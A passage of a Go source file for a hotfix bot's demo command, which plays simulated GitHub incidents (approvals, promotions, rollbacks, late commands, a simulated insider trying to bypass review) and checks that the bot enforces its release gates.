package main

import (
	"context"
	"flag"
	"fmt"
	"io"
	"net/http"
	"os"
	"os/signal"
	"strings"
	"syscall"
	"time"

	"github.com/hotfix-bot/hotfix-bot/app"
	"github.com/hotfix-bot/hotfix-bot/handlers"
	"github.com/hotfix-bot/hotfix-bot/internal/ghsim"
	"github.com/hotfix-bot/hotfix-bot/internal/harness"
	"github.com/hotfix-bot/hotfix-bot/policy"
	dto "github.com/prometheus/client_model/go"
)

// demo plays an incident against the embedded GitHub simulator and prints
// what the bot did. It exits 0 only if every expected outcome happened.
func demo(args []string, stdout, stderr io.Writer) int {
	fs := flag.NewFlagSet("demo", flag.ContinueOnError)
	verbose := fs.Bool("v", false, "also print the bot's JSON log")
	keep := fs.Bool("keep", false, "keep the simulator and the bot running afterwards, to open the details page in a browser (Ctrl-C ends)")
	if code, ok := parseArgs(fs, demoHelp, args, stdout, stderr); !ok {
		return code
	}
	opts := harness.Options{}
	if *verbose {
		opts.Log = stderr
	}
	h, err := harness.New(opts)
	if err != nil {
		fmt.Fprintf(stderr, "hotfix-bot demo: cannot start the GitHub simulator: %v\n", err)
		return 1
	}
	defer h.Close()
	// A bound, not a target: the demo takes seconds on a quiet machine.
	ctx, cancel := context.WithTimeout(context.Background(), 5*time.Minute)
	defer cancel()

	d := &demoRun{h: h, out: stdout, ctx: ctx}
	if err := d.play(); err != nil {
		fmt.Fprintf(stderr, "hotfix-bot demo: %v\n", err)
		return 1
	}
	code := d.verdict()
	if *keep && d.details != "" {
		fmt.Fprintf(stdout, "\nStill running (Ctrl-C ends): open %s\n", d.details)
		stop, cancelStop := signal.NotifyContext(context.Background(), os.Interrupt, syscall.SIGTERM)
		defer cancelStop()
		<-stop.Done()
	}
	return code
}

type demoRun struct {
	h      *harness.Harness
	in     *harness.Incident
	out    io.Writer
	ctx    context.Context
	failed []string
	// details is the details page of the first hotfix (for -keep).
	details string
}

func (d *demoRun) say(who, format string, args ...any) {
	fmt.Fprintf(d.out, "%s  %-10s %s\n", d.h.Sim.Clock().Now().Format("15:04:05"), who, fmt.Sprintf(format, args...))
}

func (d *demoRun) settle() error {
	_, err := d.h.Settle(d.ctx)
	return err
}

// expect records an outcome that did not happen.
func (d *demoRun) expect(ok bool, what string) {
	mark := "✔"
	if !ok {
		mark = "✘"
		d.failed = append(d.failed, what)
	}
	fmt.Fprintf(d.out, "          %s expected: %s\n", mark, what)
}

// showCheck prints a check run the bot wrote and returns its conclusion.
func (d *demoRun) showCheck(sha, name string) string {
	cr, ok := d.in.Repo.CheckRun(sha, name)
	if !ok {
		d.say("hotfix-bot", "%s: no check run", name)
		return ""
	}
	icon := map[string]string{policy.Success: "✅", policy.Failure: "❌", policy.ActionRequired: "⚠️ "}[cr.Conclusion]
	d.say("hotfix-bot", "%s %s  %s", icon, name, cr.Title)
	for _, line := range strings.Split(cr.Summary, "\n") {
		if strings.TrimSpace(line) != "" {
			fmt.Fprintf(d.out, "                      │ %s\n", line)
		}
	}
	return cr.Conclusion
}

func (d *demoRun) play() error {
	in, err := d.h.SetupIncident()
	if err != nil {
		return err
	}
	d.in = in
	r := in.Repo
	fmt.Fprintln(d.out, "hotfix-bot demo: a 3 a.m. incident on acme/payments, played against the embedded GitHub simulator")
	fmt.Fprintln(d.out, "(real git repositories, signed webhooks, app JWT auth; every API request checked against GitHub's OpenAPI description)")
	fmt.Fprintln(d.out)
	d.say("github", "production runs v1.4.2 (%s, deployment succeeded); develop holds 3 unreleased commits; release/1.5 is open (and retuned the payment timeout); release/1.4 was merged long ago", policy.Short(in.V142))

	fmt.Fprintln(d.out, "\n— A good hotfix —")
	if _, err := r.CreateBranch(in.Dana, "hotfix/payment-timeout", "v1.4.2"); err != nil {
		return err
	}
	head, err := r.Push(in.Dana, "hotfix/payment-timeout", "Raise the payment timeout to 60s", ghsim.Files{
		"payments/timeout.go": "package payments\n\nconst Timeout = 60 // seconds\n",
	})
	if err != nil {
		return err
	}
	d.say("dana", "git switch -c hotfix/payment-timeout v1.4.2; fix; git push  (%s)", policy.Short(head))
	if err := d.settle(); err != nil {
		return err
	}
	d.expect(d.showCheck(head, policy.CheckBase) == policy.Success, "hotfix-bot/base passes: the branch starts at v1.4.2")
	d.expect(d.showCheck(head, policy.CheckSchema) == policy.Success, "hotfix-bot/schema passes: no migration")

	n, err := r.OpenPR(in.Dana, "hotfix/payment-timeout", "main", "Raise the payment timeout to 60s")
	if err != nil {
		return err
	}
	d.say("dana", "opens pull request #%d hotfix/payment-timeout → main", n)
	if err := d.settle(); err != nil {
		return err
	}
	d.say("hotfix-bot", "labels #%d: %s", n, strings.Join(r.Labels(n), ", "))
	d.expect(strings.Contains(strings.Join(r.Labels(n), ","), "hotfix"), "the pull request is labelled hotfix")
	d.expect(d.showCheck(head, policy.CheckApproval) == policy.Failure, "hotfix-bot/approval waits for hotfix-approved")

	if err := r.AddLabel(in.Dana, n, "hotfix-approved"); err != nil {
		return err
	}
	d.say("dana", "adds hotfix-approved to her own pull request")
	if err := d.settle(); err != nil {
		return err
	}
	d.expect(d.showCheck(head, policy.CheckApproval) == policy.Failure, "an author's own approval does not count")
	if err := r.RemoveLabel(in.Dana, n, "hotfix-approved"); err != nil {
		return err
	}
	if err := r.AddLabel(in.Rob, n, "hotfix-approved"); err != nil {
		return err
	}
	d.say("rob", "reviews, and adds hotfix-approved (rob maintains the repository)")
	if err := d.settle(); err != nil {
		return err
	}
	d.expect(d.showCheck(head, policy.CheckApproval) == policy.Success, "rob's approval counts: every gate is green")

	fmt.Fprintln(d.out, "\n— A hotfix cut from develop —")
	if _, err := r.CreateBranch(in.Dana, "hotfix/refund-rounding", "develop"); err != nil {
		return err
	}
	wrong, err := r.Push(in.Dana, "hotfix/refund-rounding", "Round refunds half-even", ghsim.Files{
		"payments/refund.go": "package payments\n\n// Refund rounds half to even.\nfunc Refund() {}\n",
	})
	if err != nil {
		return err
	}
	d.say("dana", "half asleep: git switch -c hotfix/refund-rounding develop; fix; git push  (%s)", policy.Short(wrong))
	if err := d.settle(); err != nil {
		return err
	}
	base := d.showCheck(wrong, policy.CheckBase)
	cr, _ := r.CheckRun(wrong, policy.CheckBase)
	d.expect(base == policy.Failure && strings.Contains(cr.Summary, "Add the new checkout flow") && strings.Contains(cr.Summary, "git rebase --onto v1.4.2"),
		"hotfix-bot/base refuses it, names develop's commits and gives the rebase command")
	d.expect(d.showCheck(wrong, policy.CheckSchema) == policy.ActionRequired, "hotfix-bot/schema flags develop's migration riding along")

	if err := d.promoteAct(n, head); err != nil {
		return err
	}
	if err := d.detailsAct(head); err != nil {
		return err
	}
	if err := d.failureAct(); err != nil {
		return err
	}
	if err := d.lateAct(n); err != nil {
		return err
	}
	if err := d.lateCommandsAct(); err != nil {
		return err
	}
	if err := d.neverLoseAct(n); err != nil {
		return err
	}
	if err := d.hostileAct(); err != nil {
		return err
	}
	if err := d.twoPersonAct(); err != nil {
		return err
	}
	if err := d.peopleFirstAct(); err != nil {
		return err
	}
	if err := d.holdAndFreezeAct(); err != nil {
		return err
	}
	return d.reportAct()
}

// comment posts a comment as who, lets the bot answer, and prints the
// bot's replies to it.
func (d *demoRun) comment(who *ghsim.User, n int, body string) (int64, []ghsim.Comment, error) {
	id, err := d.in.Repo.Comment(who, n, body)
	if err != nil {
		return 0, nil, err
	}
	d.say(who.Login, "comments on #%d: %s", n, strings.ReplaceAll(body, "\n", " ⏎ "))
	if err := d.settle(); err != nil {
		return 0, nil, err
	}
	var replies []ghsim.Comment
	for _, c := range d.in.Repo.Comments(n) {
		if c.User.Type == "Bot" && strings.Contains(c.Body, fmt.Sprintf("hotfix-bot:reply:%d:", id)) {
			replies = append(replies, c)
			d.showComment(c.Body, 14)
		}
	}
	return id, replies, nil
}

// showComment prints a comment the bot wrote, without its hidden markers,
// up to max lines.
func (d *demoRun) showComment(body string, max int) {
	shown := 0
	for _, line := range strings.Split(body, "\n") {
		if strings.HasPrefix(line, "<!-- hotfix-bot:") || strings.TrimSpace(line) == "" {
			continue
		}
		if shown == max {
			fmt.Fprintf(d.out, "                      │ …\n")
			break
		}
		fmt.Fprintf(d.out, "                      │ %s\n", line)
		shown++
	}
}

func (d *demoRun) botDeployments() []ghsim.Deployment {
	var out []ghsim.Deployment
	for _, dep := range d.in.Repo.Deployments() {
		if dep.Creator != nil && dep.Creator.Type == "Bot" {
			out = append(out, dep)
		}
	}
	return out
}

func (d *demoRun) report(id int64, state string) error {
	if err := d.in.Repo.SetDeploymentStatusWithLog(d.in.CD, id, state, "CD "+state, fmt.Sprintf("https://ci.example.com/deploys/%d", id)); err != nil {
		return err
	}
	d.say("deploy-bot", "reports deployment %d: %s", id, state)
	return d.settle()
}

func (d *demoRun) pullsInto(base string) []ghsim.Issue {
	var out []ghsim.Issue
	for _, is := range d.in.Repo.Issues() {
		if is.PR != nil && is.PR.BaseRef == base && strings.HasPrefix(is.PR.HeadRef, "hotfix-bot/sync/") {
			out = append(out, is)
		}
	}
	return out
}

// promoteAct: /promote refused for the intern, a dry run, the reviewer's
// promotion, then the CD system's success: tag, merge, sync-back.
func (d *demoRun) promoteAct(n int, head string) error {
	r, in := d.in.Repo, d.in
	fmt.Fprintln(d.out, "\n— /promote —")
	_, replies, err := d.comment(in.Ivan, n, "/promote")
	if err != nil {
		return err
	}
	d.expect(len(replies) == 1 && strings.Contains(replies[0].Body, "refused: permission") && len(d.botDeployments()) == 0,
		"ivan (read permission) is refused, and nothing is deployed")
	_, replies, err = d.comment(in.Ivan, n, "/promote --dry-run")
	if err != nil {
		return err
	}
	d.expect(len(replies) == 1 && strings.Contains(replies[0].Body, "Dry run: /promote would deploy") && len(d.botDeployments()) == 0,
		"a dry run shows the gate table and changes nothing")
	_, replies, err = d.comment(in.Rob, n, "/promote")
	if err != nil {
		return err
	}
	deps := d.botDeployments()
	d.expect(len(deps) == 1 && deps[0].SHA == head && deps[0].Environment == "production" && r.Ref("refs/hotfix-bot/production-lock") != "",
		"rob's /promote takes the production lock and creates one deployment of exactly the checked head")
	d.expect(len(replies) == 1 && strings.Contains(replies[0].Body, "v1.4.3"), "the reply gives the plan: deploy "+policy.Short(head)+" as v1.4.3")
	if len(deps) != 1 {
		return nil
	}

	fmt.Fprintln(d.out, "\n— The deployment succeeds —")
	if err := d.report(deps[0].ID, "success"); err != nil {
		return err
	}
	for _, c := range r.Comments(n) {
		if c.User.Type == "Bot" && strings.Contains(c.Body, "hotfix-bot:deployed:") {
			d.showComment(c.Body, 16)
		}
	}
	pr, _ := r.PR(n)
	d.expect(r.TagCommit("v1.4.3") == head, "v1.4.3 is tagged on the deployed commit")
	d.expect(pr.PR != nil && pr.PR.Merged, "the hotfix pull request is merged into main")
	dev, rel15, rel14 := d.pullsInto("develop"), d.pullsInto("release/1.5"), d.pullsInto("release/1.4")
	d.expect(len(dev) == 1 && !dev[0].PR.Draft, "a sync-back pull request into develop")
	d.expect(len(rel14) == 0, "none into release/1.4, merged into main long ago")
	conflicting := len(rel15) == 1 && rel15[0].PR.Draft && strings.Contains(strings.Join(r.Labels(rel15[0].Number), ","), "sync-conflict")
	if conflicting {
		for _, c := range r.Comments(rel15[0].Number) {
			if c.User.Type == "Bot" {
				d.say("hotfix-bot", "on #%d (%s):", rel15[0].Number, rel15[0].Title)
				d.showComment(c.Body, 10)
			}
		}
		cr, ok := r.CheckRun(rel15[0].PR.HeadSHA, policy.CheckSync)
		conflicting = ok && cr.Conclusion == policy.Failure
	}
	d.expect(conflicting, "the release/1.5 sync conflicts: a draft, labelled sync-conflict, with the commands to resolve it and a failing hotfix-bot/sync check")
	return nil
}

// detailsAct: the page every check run links to, read as a person would
// open it from the check's "Details" link.
func (d *demoRun) detailsAct(head string) error {
	fmt.Fprintln(d.out, "\n— The details page —")
	cr, ok := d.in.Repo.CheckRun(head, policy.CheckBase)
	if !ok {
		d.expect(false, "the checks link to the bot's details page")
		return nil
	}
	d.details = cr.DetailsURL
	d.say("rob", "opens Details on hotfix-bot/base: %s", cr.DetailsURL)
	d.h.Sim.ResetCalls()
	req, err := http.NewRequestWithContext(d.ctx, http.MethodGet, cr.DetailsURL, nil)
	if err != nil {
		return err
	}
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		return err
	}
	defer resp.Body.Close()
	b, err := io.ReadAll(resp.Body)
	if err != nil {
		return err
	}
	page := string(b)
	wrote := 0
	for _, c := range d.h.Sim.Calls() {
		if c.Write && !strings.HasSuffix(c.Path, "/access_tokens") {
			wrote++
		}
	}
	d.say("hotfix-bot", "serves the page (%d, %d bytes): %d gates, %d deployment(s), %d sync-back pull request(s), %d timeline entries",
		resp.StatusCode, len(b), strings.Count(page, `<tr class="gate">`), strings.Count(page, `<tr class="deployment">`),
		strings.Count(page, `<tr class="sync">`), strings.Count(page, `<li class="event">`))
	d.expect(resp.StatusCode == http.StatusOK && strings.Contains(page, "Starts at production") && strings.Contains(page, "v1.4.3") &&
		strings.Contains(page, "Sync v1.4.3 into develop") && strings.Contains(page, "merged into main"),
		"the details page shows the gates, the release v1.4.3, its deployment, the sync-back pull requests and the timeline")
	d.expect(wrote == 0, "reading the page wrote nothing to GitHub")
	return nil
}

// failureAct: a second hotfix whose deployment fails is rolled back
// automatically, and an incident issue is opened.
func (d *demoRun) failureAct() error {
	r, in := d.in.Repo, d.in
	fmt.Fprintln(d.out, "\n— A hotfix that fails in production —")
	if _, err := r.CreateBranch(in.Dana, "hotfix/retry-declines", "v1.4.3"); err != nil {
		return err
	}
	head, err := r.Push(in.Dana, "hotfix/retry-declines", "Retry card declines twice", ghsim.Files{"payments/retry.go": "package payments\n\nconst Retries = 2\n"})
	if err != nil {
		return err
	}
	n, err := r.OpenPR(in.Dana, "hotfix/retry-declines", "main", "Retry card declines twice")
	if err != nil {
		return err
	}
	d.say("dana", "cuts hotfix/retry-declines from v1.4.3, pushes %s and opens #%d", policy.Short(head), n)
	if err := d.settle(); err != nil {
		return err
	}
	if err := r.AddLabel(in.Rob, n, "hotfix-approved"); err != nil {
		return err
	}
	d.say("rob", "approves #%d", n)
	if err := d.settle(); err != nil {
		return err
	}
	if _, _, err := d.comment(in.Rob, n, "/promote"); err != nil {
		return err
	}
	deps := d.botDeployments()
	last := deps[len(deps)-1]
	d.expect(last.SHA == head, "the second hotfix is deployed (production will be v1.4.4)")
	if err := d.report(last.ID, "failure"); err != nil {
		return err
	}
	deps = d.botDeployments()
	rollback := deps[len(deps)-1]
	for _, c := range r.Comments(n) {
		if c.User.Type == "Bot" && strings.Contains(c.Body, "hotfix-bot:failed:") {
			d.showComment(c.Body, 6)
		}
	}
	d.expect(rollback.Task == policy.TaskRollback && rollback.SHA != head && r.TagCommit("v1.4.3") == rollback.SHA,
		"the failure rolls production back to v1.4.3 automatically")
	if err := d.report(rollback.ID, "success"); err != nil {
		return err
	}
	var incident *ghsim.Issue
	for _, is := range r.Issues() {
		if is.PR == nil && strings.HasPrefix(is.Title, "Incident:") {
			is := is
			incident = &is
		}
	}
	if incident != nil {
		d.say("hotfix-bot", "opens #%d %q, assigned to %s", incident.Number, incident.Title, incident.Assignees[0].Login)
		d.showComment(incident.Body, 12)
	}
	d.expect(incident != nil && strings.Contains(incident.Body, "root cause") && len(incident.Assignees) == 1 && incident.Assignees[0].Login == "dana",
		"the rollback's success opens an incident issue with the post-incident checklist, assigned to the hotfix's author")
	pr, _ := r.PR(n)
	d.expect(r.TagCommit("v1.4.4") == "" && pr.PR != nil && !pr.PR.Merged, "the failed hotfix is neither tagged nor merged")
	return nil
}

// lateAct: an hour later the first hotfix's CD job is re-run and fails.
// The status is about a deployment production no longer runs: the bot
// decides from GitHub as it is now, rolls nothing back and says so.
func (d *demoRun) lateAct(first int) error {
	r := d.in.Repo
	fmt.Fprintln(d.out, "\n— An hour later: a CD job re-run on an old deployment —")
	var old ghsim.Deployment
	for _, dep := range d.botDeployments() {
		if dep.Task == policy.TaskHotfix {
			old = dep
			break
		}
	}
	d.h.Sim.Clock().Advance(time.Hour)
	before := len(d.botDeployments())
	d.say("deploy-bot", "re-runs the job of deployment %d (v1.4.3, shipped an hour ago) and reports failure", old.ID)
	if err := d.report(old.ID, "failure"); err != nil {
		return err
	}
	late := ""
	for _, c := range r.Comments(first) {
		if c.User.Type == "Bot" && strings.Contains(c.Body, "hotfix-bot:late:") {
			late = c.Body
			d.showComment(c.Body, 4)
		}
	}
	d.expect(len(d.botDeployments()) == before, "a failure on a deployment older than production's newest rolls nothing back")
	d.expect(strings.Contains(late, "Nothing was changed") && strings.Contains(late, "production now runs"),
		"the first pull request is told what arrived late, what production runs and that nothing changed")
	return nil
}

// lateCommandsAct: commands judged against GitHub as it is now. /rollback
// on the failed hotfix refuses (production already runs what ran before
// it), and a /rollback GitHub delivers 47 minutes late is answered "too
// old", not run.
func (d *demoRun) lateCommandsAct() error {
	r, in := d.in.Repo, d.in
	fmt.Fprintln(d.out, "\n— Commands judged as GitHub is now —")
	failed := 0
	for _, is := range r.Issues() {
		if is.PR != nil && is.PR.HeadRef == "hotfix/retry-declines" {
			failed = is.Number
		}
	}
	before := len(d.botDeployments())
	_, replies, err := d.comment(in.Rob, failed, "/rollback")
	if err != nil {
		return err
	}
	d.expect(len(replies) == 1 && strings.Contains(replies[0].Body, fmt.Sprintf("production already runs what ran before #%d (v1.4.3)", failed)) &&
		len(d.botDeployments()) == before, "/rollback on the failed hotfix refuses: production already runs what ran before it")

	issue := r.CreateIssue(in.Rob, "Card declines spike", "")
	if err := d.settle(); err != nil {
		return err
	}
	id, err := r.Comment(in.Rob, issue, "/rollback")
	if err != nil {
		return err
	}
	late := d.h.Sim.Postpone(func(del ghsim.Delivery) bool {
		return del.Event == "issue_comment" && strings.Contains(string(del.Payload), fmt.Sprintf(`"id":%d,`, id))
	})
	d.say("rob", "comments on #%d: /rollback  (GitHub delivers it 47 minutes late)", issue)
	if len(late) != 1 {
		d.expect(false, "the comment's delivery is held back")
		return nil
	}
	if err := d.h.Sim.DeliverLate(d.ctx, late[0], 47*time.Minute); err != nil {
		return err
	}
	if err := d.settle(); err != nil {
		return err
	}
	var answer string
	for _, c := range r.Comments(issue) {
		if c.User.Type == "Bot" && strings.Contains(c.Body, fmt.Sprintf("hotfix-bot:reply:%d:", id)) {
			answer = c.Body
			d.showComment(c.Body, 6)
		}
	}
	d.expect(strings.Contains(answer, "this /rollback is 47 minutes old and was not run") && strings.Contains(answer, "comment it again if you still want it") &&
		len(d.botDeployments()) == before, "a /rollback 47 minutes old is answered, never run")
	return nil
}

// twoPersonAct: one person never ships alone. A second developer pushes
// onto Dana's hotfix and approves it: an author's approval does not
// count. Rob's does, and survives a reworded commit (the same content);
// a status posted over CI's failing check does not let it through.
func (d *demoRun) twoPersonAct() error {
	r, in := d.in.Repo, d.in
	fmt.Fprintln(d.out, "\n— One person never ships alone —")
	eve, mallory := d.h.Sim.User("eve"), d.h.Sim.User("mallory")
	r.SetRole("eve", "write")
	r.SetRole("mallory", "write")
	prod := r.TagCommit("v1.4.4")
	if _, err := r.CreateBranch(in.Dana, "hotfix/fraud-timeout", prod); err != nil {
		return err
	}
	if _, err := r.Push(in.Dana, "hotfix/fraud-timeout", "Time out the fraud check after 2s", ghsim.Files{"payments/fraud.go": "package payments\n\nconst FraudTimeout = 2\n"}); err != nil {
		return err
	}
	n, err := r.OpenPR(in.Dana, "hotfix/fraud-timeout", "main", "Time out the fraud check")
	if err != nil {
		return err
	}
	d.say("dana", "cuts hotfix/fraud-timeout from v1.4.4, pushes and opens #%d", n)
	if err := d.settle(); err != nil {
		return err
	}
	head, err := r.Push(eve, "hotfix/fraud-timeout", "Skip the fraud check entirely", ghsim.Files{"payments/fraud.go": "package payments\n\nconst SkipFraud = true\n"})
	if err != nil {
		return err
	}
	if err := r.AddLabel(eve, n, "hotfix-approved"); err != nil {
		return err
	}
	d.say("eve", "pushes %s onto dana's branch, then adds hotfix-approved", policy.Short(head))
	if err := d.settle(); err != nil {
		return err
	}
	cr, _ := r.CheckRun(head, policy.CheckApproval)
	d.expect(d.showCheck(head, policy.CheckApproval) == policy.Failure && strings.Contains(cr.Summary, "added by @eve, who pushed `"+policy.Short(head)+"`"),
		"eve pushed code into the change: she is an author, and her approval does not count")
	if err := r.RemoveLabel(eve, n, "hotfix-approved"); err != nil {
		return err
	}
	if err := r.AddLabel(in.Rob, n, "hotfix-approved"); err != nil {
		return err
	}
	d.say("rob", "reviews both commits and adds hotfix-approved")
	if err := d.settle(); err != nil {
		return err
	}
	d.expect(d.showCheck(head, policy.CheckApproval) == policy.Success, "rob wrote none of it: his approval counts")
	reworded, err := r.Reword(eve, "hotfix/fraud-timeout", "Skip the fraud check entirely (PAY-912)")
	if err != nil {
		return err
	}
	d.say("eve", "rewords her commit and force-pushes (%s, the same content)", policy.Short(reworded))
	if err := d.settle(); err != nil {
		return err
	}
	cr, _ = r.CheckRun(reworded, policy.CheckApproval)
	d.expect(d.showCheck(reworded, policy.CheckApproval) == policy.Success &&
		strings.Contains(cr.Summary, "approved on `"+policy.Short(head)+"`, same content as `"+policy.Short(reworded)+"`"),
		"an approval counts for the code it was given on: it survives a reword that changes nothing")
	r.ReportCheck(in.CI, reworded, "test", "completed", "failure")
	r.AddStatus(mallory, reworded, "test", "success")
	d.say("github", "CI's check run `test` fails on %s; mallory posts a commit status `test`: success", policy.Short(reworded))
	_, replies, err := d.comment(in.Rob, n, "/promote --dry-run")
	if err != nil {
		return err
	}
	d.expect(len(replies) == 1 && strings.Contains(replies[0].Body, "would refuse") && strings.Contains(replies[0].Body, "`test` (github-actions): failure"),
		"checks are known by source and name: mallory's status does not hide CI's failure")
	return nil
}

// peopleFirstAct: a release's success path (tag, merge, sync-back,
// re-checks) is background work; a push and a command that arrive with it
// get their checks and their 👀 first, and the push costs two writes.
func (d *demoRun) peopleFirstAct() error {
	r, in := d.in.Repo, d.in
	fmt.Fprintln(d.out, "\n— People first: a release does not hold up the next hotfix —")
	if _, err := r.CreateBranch(in.Dana, "hotfix/card-limits", "v1.4.4"); err != nil {
		return err
	}
	if _, err := r.Push(in.Dana, "hotfix/card-limits", "Raise card limits", ghsim.Files{"payments/limits.go": "package payments\n\nconst Limit = 500\n"}); err != nil {
		return err
	}
	n, err := r.OpenPR(in.Dana, "hotfix/card-limits", "main", "Raise card limits")
	if err != nil {
		return err
	}
	if err := d.settle(); err != nil {
		return err
	}
	if err := r.AddLabel(in.Rob, n, "hotfix-approved"); err != nil {
		return err
	}
	if err := d.settle(); err != nil {
		return err
	}
	if _, _, err := d.comment(in.Rob, n, "/promote"); err != nil {
		return err
	}
	deps := d.botDeployments()
	release := deps[len(deps)-1]
	if err := r.SetDeploymentStatusWithLog(in.CD, release.ID, "success", "CD success", fmt.Sprintf("https://ci.example.com/deploys/%d", release.ID)); err != nil {
		return err
	}
	d.say("deploy-bot", "reports deployment %d (#%d): success; the bot tags, merges and opens the sync-back pull requests", release.ID, n)
	if _, err := r.CreateBranch(in.Dana, "hotfix/fraud-rules", "v1.4.4"); err != nil {
		return err
	}
	head, err := r.Push(in.Dana, "hotfix/fraud-rules", "Relax a fraud rule", ghsim.Files{"payments/fraud.go": "package payments\n"})
	if err != nil {
		return err
	}
	d.say("dana", "meanwhile pushes hotfix/fraud-rules (%s)", policy.Short(head))
	dry, err := r.Comment(in.Ivan, n, "/promote --dry-run")
	if err != nil {
		return err
	}
	d.say("ivan", "and asks for a dry run on #%d", n)
	d.h.Sim.ResetCalls()
	if err := d.settle(); err != nil {
		return err
	}
	checksAt, eyesAt, syncAt, writes, pushWrites := -1, -1, -1, 0, 0
	for _, c := range d.h.Sim.Calls() {
		if !c.Write {
			continue
		}
		writes++
		switch {
		case c.Op == "checks/create" && strings.Contains(c.Body, head):
			pushWrites++
			checksAt = writes
		case c.Op == "reactions/create-for-issue-comment" && strings.Contains(c.Path, fmt.Sprintf("/comments/%d/", dry)) && eyesAt < 0:
			eyesAt = writes
		case c.Op == "pulls/create" && strings.Contains(c.Body, "hotfix-bot/sync/") && syncAt < 0:
			syncAt = writes
		}
	}
	d.say("hotfix-bot", "write %d: the push's second check; write %d: the dry run's 👀; write %d: the release's first sync-back pull request (of %d writes)", checksAt, eyesAt, syncAt, writes)
	d.expect(checksAt > 0 && eyesAt > 0 && syncAt > max(checksAt, eyesAt),
		"the push's checks and the command's 👀 come before the release's sync-back: people first, the sync-back in the background")
	d.expect(pushWrites == 2, "the push costs its two check runs and no other write")
	cr, ok := r.CheckRun(head, policy.CheckBase)
	if !ok {
		return fmt.Errorf("no %s on %s", policy.CheckBase, policy.Short(head))
	}
	d.h.Sim.ResetCalls()
	if err := r.RerequestCheckSuite(in.Dana, cr.SuiteID); err != nil {
		return err
	}
	d.say("dana", "clicks \"Re-run all checks\" on the bot's checks of %s, cut from v1.4.4 while v1.4.5 was being released", policy.Short(head))
	if err := d.settle(); err != nil {
		return err
	}
	compares, rewrites := 0, 0
	for _, c := range d.h.Sim.Calls() {
		switch {
		case c.Write:
			rewrites++
		case c.Op == "repos/compare-commits-with-basehead" && strings.Contains(c.Path, head):
			compares++
		}
	}
	after, _ := r.CheckRun(head, policy.CheckBase)
	d.expect(compares > 0 && rewrites <= 2 && d.showCheck(head, policy.CheckBase) == policy.Failure && strings.Contains(after.Title, "v1.4.5"),
		"\"Re-run all checks\" (check_suite rerequested) evaluates the push's gates again, once: production moved to v1.4.5 while dana pushed, and the base gate now says her branch is behind it")

	// Most of a busy installation's deliveries need no work.
	skippedBefore := d.skipped()
	mark := len(d.h.Sim.Deliveries())
	d.h.Sim.ResetCalls()
	const busy = 15
	for i := range busy {
		branch := fmt.Sprintf("feature/search-%d", i)
		if _, err := r.CreateBranch(in.Dana, branch, "develop"); err != nil {
			return err
		}
		if _, err := r.Push(in.Dana, branch, "Search, step "+fmt.Sprint(i), ghsim.Files{fmt.Sprintf("search/step%d.go", i): "package search\n"}); err != nil {
			return err
		}
		if _, err := r.Comment(in.Ivan, n, fmt.Sprintf("Nice, thanks (%d)", i)); err != nil {
			return err
		}
	}
	d.say("dana", "pushes %d feature branches while ivan leaves %d comments without a command", busy, busy)
	if err := d.settle(); err != nil {
		return err
	}
	answered, total := 0, 0
	for _, dl := range d.h.Sim.Deliveries()[mark:] {
		total++
		if dl.Succeeded() {
			answered++
		}
	}
	busyWrites := 0
	for _, c := range d.h.Sim.Calls() {
		if c.Write {
			busyWrites++
		}
	}
	skipped := int(d.skipped() - skippedBefore)
	d.say("hotfix-bot", "%d of %d deliveries answered; %d at the door, without queueing them; %d writes", answered, total, skipped, busyWrites)
	d.expect(answered == total && skipped >= total-2 && busyWrites == 0,
		"deliveries that need no work are answered at the door from the policy the bot cached (at most one is queued, to read an expired policy again), and cost no write")
	return nil
}

// skipped is how many deliveries the bot answered at the door.
func (d *demoRun) skipped() float64 {
	total := 0.0
	for _, b := range d.h.Bots {
		for _, event := range []string{"push", "issue_comment", "create", "pull_request", "check_run", "check_suite"} {
			var m dto.Metric
			if b.Metrics().Deliveries.WithLabelValues(event, app.OutcomeSkipped).Write(&m) == nil {
				total += m.GetCounter().GetValue()
			}
		}
	}
	return total
}

// neverLoseAct: the release pipeline deploys release/1.5 before the
// conflicting sync of v1.4.3 is resolved. hotfix-bot guards production as
// a deployment protection rule, so GitHub holds the job and the bot
// rejects it, naming the hotfix and the sync that brings it. Once the sync
// is resolved and merged, the same pipeline deploying release/1.5 again is
// approved.
func (d *demoRun) neverLoseAct(first int) error {
	r, in := d.in.Repo, d.in
	fmt.Fprintln(d.out, "\n— Never lose a hotfix —")
	// The act has a deadline of its own: the acts before it may have used
	// most of the demo's on a busy machine.
	ctx, cancel := context.WithTimeout(context.Background(), 2*time.Minute)
	defer cancel()
	outer := d.ctx
	d.ctx = ctx
	defer func() { d.ctx = outer }()
	if err := r.EnableProtectionRule("production", d.h.App); err != nil {
		return err
	}
	d.say("rob", "enables hotfix-bot under Settings → Environments → production → Deployment protection rules")
	var sync ghsim.Issue
	for _, is := range d.pullsInto("release/1.5") {
		if is.State == "open" {
			sync = is
		}
	}
	if sync.PR == nil {
		d.expect(false, "the sync of v1.4.3 into release/1.5 is open")
		return nil
	}
	deploy := func() (ghsim.WorkflowRun, error) {
		run, err := r.RunDeploymentJob(in.CD, "push", "release/1.5", "production")
		if err != nil {
			return run, err
		}
		d.say("deploy-bot", "the release pipeline deploys release/1.5 (%s) to production: GitHub holds the job (workflow run %d) for hotfix-bot", policy.Short(run.SHA), run.ID)
		if err := d.settle(); err != nil {
			return run, err
		}
		run, _ = r.WorkflowRun(run.ID)
		for _, rev := range run.Reviews {
			d.say("hotfix-bot", "%s the deployment (the job is now %s):", rev.State, run.Status)
			d.showComment(rev.Comment, 8)
		}
		return run, nil
	}
	run, err := deploy()
	if err != nil {
		return err
	}
	rejected := len(run.Reviews) == 1 && run.Reviews[0].State == "rejected" && run.Status == "completed" &&
		strings.Contains(run.Reviews[0].Comment, fmt.Sprintf("v1.4.3 (#%d, ", first)) &&
		strings.Contains(run.Reviews[0].Comment, fmt.Sprintf("merge #%d into `release/1.5` first", sync.Number))
	d.expect(rejected, "GitHub holds release/1.5 and the bot rejects it: v1.4.3 is not in it, merge the sync pull request first")

	if _, err := r.MergeBranchesResolving(in.Dana, sync.PR.HeadRef, "release/1.5", "Merge release/1.5 into the sync of v1.4.3",
		ghsim.Files{"payments/timeout.go": "package payments\n\nconst Timeout = 60 // seconds\n"}); err != nil {
		return err
	}
	d.say("dana", "resolves the conflict on %s (keeps the 60s timeout) and pushes", sync.PR.HeadRef)
	if err := d.settle(); err != nil {
		return err
	}
	resolved, _ := r.PR(sync.Number)
	d.expect(d.showCheck(resolved.PR.HeadSHA, policy.CheckSync) == policy.Success, "hotfix-bot/sync turns green once the conflict is resolved")
	r.SetDraft(sync.Number, false)
